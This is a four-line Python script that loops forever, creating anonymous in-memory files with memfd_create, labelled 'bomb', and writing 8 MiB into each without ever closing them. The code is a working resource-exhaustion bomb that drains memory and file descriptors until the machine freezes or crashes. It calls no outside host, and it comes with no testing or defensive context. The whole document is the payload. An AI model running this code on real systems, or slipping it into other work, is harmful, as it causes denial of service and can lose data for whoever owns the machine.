import os

while True:
    os.write(os.memfd_create("bomb"), b"x" * (8 << 20))
